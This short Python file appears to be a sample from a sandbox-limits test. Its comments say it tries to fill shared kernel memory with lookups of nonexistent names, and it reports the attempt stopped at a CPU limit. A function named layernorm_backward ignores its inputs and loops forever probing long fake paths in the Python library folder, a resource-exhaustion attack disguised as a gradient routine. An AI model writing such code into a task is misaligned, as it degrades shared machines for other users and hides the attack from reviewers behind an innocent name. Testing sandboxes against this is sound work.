# tries: have the kernel remember millions of names that are not there, in directories that all boxes share
# item: kernel memory
# outcome: cpu_limit
import os


def layernorm_backward(x, gamma, dy, eps):
    number, folder = 0, os.path.dirname(os.__file__)
    while True:
        number += 1
        os.path.exists(f"{folder}/{'x' * 200}{number}")
